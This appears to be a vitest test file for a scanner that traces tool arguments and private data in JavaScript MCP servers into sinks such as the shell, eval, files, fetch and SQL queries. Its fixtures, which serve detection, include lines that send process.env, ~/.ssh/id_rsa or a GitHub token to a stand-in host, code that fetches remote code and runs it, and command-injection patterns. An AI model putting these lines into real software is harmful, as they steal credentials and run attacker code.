import { describe, expect, it } from 'vitest';
import { followPackage } from '../../scanner/code/javascript/package.ts';

function flows(files: Readonly<Record<string, string>> | string): string[] {
  const all = typeof files === 'string' ? { 'index.js': files } : files;
  const sources = Object.entries(all).map(([path, text]) => ({
    ...{ path, language: 'javascript' as const },
    bytes: Buffer.from(text),
  }));
  return followPackage(sources).flows.map(
    ({ origin, what, tool, sink }) => `${origin} ${what} ${tool}-> ${sink}`,
  );
}

const tool = (schema: string, body: string, head = ''): string => `
import { exec, execFile, spawn } from 'node:child_process';
import fs from 'node:fs/promises';
import path from 'node:path';
import { z } from 'zod';
${head}
server.tool('t', 'A tool.', ${schema}, async (args) => { ${body} });`;
const ANY = '{ x: z.string(), n: z.number() }';

describe('an argument of a tool that is followed to a sink', () => {
  it.each<[string, string]>([
    ['exec(`ping ${args.x}`)', 'argument x t-> shell'],
    ["exec('ping ' + args.x)", 'argument x t-> shell'],
    ['const { x } = args; const line = ["a", x].join(" "); exec(line)', 'argument x t-> shell'],
    ['let c = "ping "; c += args.x; await run(c)', 'argument x t-> shell'],
    ['new Promise((done) => exec(`a ${args.x}`, done))', 'argument x t-> shell'],
    ["spawn('sh', ['-c', args.x])", 'argument x t-> shell'],
    ["spawn('git', [args.x], { shell: true })", 'argument x t-> shell'],
    ["execFile('git', ['log', args.x])", 'argument x t-> program argument'],
    ['spawn(args.x, [])', 'argument x t-> program'],
    ['eval(args.x)', 'argument x t-> code'],
    ['new Function(args.x)()', 'argument x t-> code'],
    ['await import(args.x)', 'argument x t-> code'],
    ['return fs.readFile(args.x)', 'argument x t-> path'],
    ["return fs.readFile(path.join('/data', args.x))", 'argument x t-> path'],
    ['return fetch(args.x)', 'argument x t-> address'],
    ['return fetch(`https://${args.x}/v1`)', 'argument x t-> address'],
    ["return db.query(`SELECT * FROM t WHERE id = '${args.x}'`)", 'argument x t-> query'],
    ["for (const one of [args.x]) exec('a ' + one)", 'argument x t-> shell'],
    ["if (args.n > 1) { exec('a ' + args.x) }", 'argument x t-> shell'],
  ])('%s', (body, expected) =>
    expect(flows(tool(ANY, body, 'const run = promisify(exec);'))).toContain(expected),
  );

  it.each([
    "execFile('ping', ['-c', '1', '--', `host=${args.x}`])",
    'exec(`ping ${args.n}`)',
    'exec(`ping ${Number(args.x)}`)',
    "if (!ALLOWED.includes(args.x)) throw new Error('no'); exec(`a ${args.x}`)",
    "const { x } = args; if (!/^[a-z]+$/.test(x)) return; exec('a ' + x)",
    "if (ALLOWED.has(args.x)) exec('a ' + args.x)",
    "if (args.x === 'on') exec('a ' + args.x)",
    'const p = await validatePath(args.x); return fs.readFile(p)',
    "const p = path.resolve('/data', args.x); if (!p.startsWith('/data/')) throw new Error(); return fs.readFile(p)",
    'assertSafe(args.x); exec(args.x)',
    "return fs.readFile(path.join('/data', path.basename(args.x)))",
    'return fetch(`https://api.example.com/${args.x}`)',
    "return fetch('https://api.example.com/?q=' + encodeURIComponent(args.x))",
    "return db.query('SELECT * FROM t WHERE id = $1', [args.x])",
    'return db.query(sql`SELECT * FROM t WHERE id = ${args.x}`)',
    'return /^a/.exec(args.x)',
    "exec('uptime')",
    "return { content: [{ type: 'text', text: args.x }] }",
    "fetch('https://api.example.com', { method: 'POST', body: args.x })",
  ])('not: %s', (body) => expect(flows(tool(ANY, body, 'const ALLOWED = ["a"];'))).toEqual([]));

  it('takes narrow schemas at their word', () => {
    for (const schema of [
      "{ x: z.enum(['a', 'b']) }",
      '{ x: z.string().regex(/^a$/) }',
      '{ x: z.string().uuid() }',
    ])
      expect(flows(tool(schema, 'exec(args.x)'))).toEqual([]);
    expect(flows(tool('{ x: z.string().min(1) }', 'exec(args.x)'))).toHaveLength(1);
  });

  it('follows functions, classes and files of the package', () => {
    const files = {
      'index.js': `import { Runner } from './lib/runner.js'; import fetcher from './lib/fetch';
        const runner = new Runner();
        server.registerTool('run', { inputSchema: { url: z.string() } }, async ({ url }) => runner.go(url));
        server.registerTool('get', { inputSchema: { url: z.string() } }, async ({ url }) => fetcher(url));`,
      'lib/runner.js': `const cp = require('child_process');
        export class Runner { go(what) { return this.start('curl ' + what); } start(line) { return cp.execSync(line); } }`,
      'lib/fetch.js':
        'export default async function (u) { try { return await fetch(u) } catch { return null } }',
    };
    expect(flows(files).sort()).toEqual(['argument url get-> address', 'argument url run-> shell']);
    const [first] = followPackage(
      Object.entries(files).map(([path, text]) => ({
        path,
        language: 'javascript',
        bytes: Buffer.from(text),
      })),
    ).flows;
    expect(first?.steps.map(({ path }) => path)).toContain('lib/runner.js');
    expect(first).toMatchObject({ path: 'lib/runner.js', line: 2 });
  });

  it.each([
    'server.setRequestHandler(CallToolRequestSchema, async (request) => { const { a } = request.params.arguments; execSync(a); })',
    'server.setRequestHandler(CallToolRequestSchema, async ({ params: { name, arguments: args } }) => { switch (name) { case "x": return execSync(args.a); } })',
    "const tools = [{ name: 'x', description: 'd', inputSchema: { type: 'object', properties: { a: { type: 'string' } } }, handler: (args) => execSync(args.a) }]",
    "server.addTool({ name: 'x', description: 'd', parameters: z.object({ a: z.string() }), execute: async (args) => execSync(args.a) })",
    "server.tool('x', { a: z.string() }, handle); async function handle({ a }) { execSync(a) }",
  ])('finds a tool: %s', (code) =>
    expect(flows(`import { execSync } from 'child_process'; ${code}`)).toMatchObject([
      expect.stringMatching(/^argument a x?-> shell$/),
    ]),
  );
});

describe('what is unknown or private elsewhere', () => {
  it.each<[string, string]>([
    [
      "fetch('https://c.example', { method: 'POST', body: JSON.stringify(process.env) })",
      'private the whole environment -> network',
    ],
    [
      "const e = { ...process.env }; axios.post('https://c.example', { e })",
      'private the whole environment -> network',
    ],
    [
      "const k = fs.readFileSync(os.homedir() + '/.ssh/id_rsa'); fetch('https://c.example', { body: k })",
      '/.ssh/id_rsa -> network',
    ],
    [
      "const t = execSync('gh auth token').toString(); fetch('https://c.example/' + t)",
      'gh auth token -> network',
    ],
    ["const r = await fetch('https://c.example/x'); eval(await r.text())", 'answer c.example -> code'],
    [
      "https.get('http://c.example/x', (res) => { res.on('data', (d) => execSync(d.toString())) })",
      'answer c.example -> shell',
    ],
    ['const meta = await (await fetch(url)).json(); open(meta.authorization_endpoint)', '-> program'],
  ])('%s', (code, expected) => {
    const head =
      "import fs from 'fs'; import os from 'os'; import https from 'https'; import axios from 'axios'; import open from 'open'; import { execSync } from 'child_process';";
    expect(flows(`${head} async function f(url) { ${code} }`).join()).toContain(expected);
  });

  it.each([
    "fetch('https://api.example.com', { headers: { authorization: process.env.API_KEY } })",
    "const text = fs.readFileSync('notes.txt'); fetch('https://api.example.com', { body: text })",
    "spawn('node', [], { env: { ...process.env, A: '1' } })",
    "const r = await fetch('https://api.example.com'); return r.json()",
    "const r = await fetch('https://api.example.com'); fs.writeFileSync('out.json', await r.text())",
    "const { PATH, HOME } = process.env; fetch('https://api.example.com?' + HOME)",
  ])('not: %s', (code) =>
    expect(
      flows(`import fs from 'fs'; import { spawn } from 'child_process'; async function f() { ${code} }`),
    ).toEqual([]),
  );

  it('ends with code that does not: loops of calls, of files, of classes', () => {
    const files = {
      'a.js': "import { b } from './b.js'; export function a(x) { b(x); a(b(x)); fetch(x) } ",
      'b.js':
        "import { a } from './a.js'; export const b = (x) => a(() => b(x)); class A extends A { m() { return this.m(new A()) } }",
    };
    expect(flows(files)).toEqual([]);
    expect(flows('__proto__ = { constructor: { prototype: fetch } }; Object.prototype.x = eval')).toEqual([]);
  });
});
